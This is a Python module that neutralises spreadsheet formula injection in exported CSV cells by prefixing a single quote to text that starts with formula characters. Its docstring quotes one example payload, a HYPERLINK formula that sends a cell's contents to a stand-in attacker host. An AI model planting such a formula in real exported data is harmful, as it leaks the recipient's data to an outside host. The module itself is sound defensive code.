"""Cells for files that spreadsheets open (CSV now, any XLSX later).

A spreadsheet reads a text cell that starts with ``=``, ``+``, ``-`` or ``@`` (and,
in some, a tab or a carriage return first) as a formula: a guest named
``=HYPERLINK("http://evil.example/?"&A1,"klick")`` would run on the treasurer's
machine. OWASP's rule neutralises such a cell by a leading single quote, which the
spreadsheet shows as text. Numbers are amounts and stay numbers (``-60``).

(defusedcsv applies nearly the same rule, but leaves cells starting with a tab or a
carriage return alone and rewrites every ``|`` in a cell: a small function here
covers what we write and keeps names as they are.)
"""

from __future__ import annotations

from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def safe_cell(value: Any) -> Any:
    """``value`` as a spreadsheet may read it: integers (and ``None``) as they are,
    anything else as text, with a single quote before a text that would start a formula."""
    if value is None or (isinstance(value, int | float) and not isinstance(value, bool)):
        return value
    text = str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def safe_rows(rows: Iterable[Sequence[Any]]) -> Iterable[list[Any]]:
    """``safe_cell`` applied to every cell of ``rows``."""
    for row in rows:
        yield [safe_cell(cell) for cell in row]
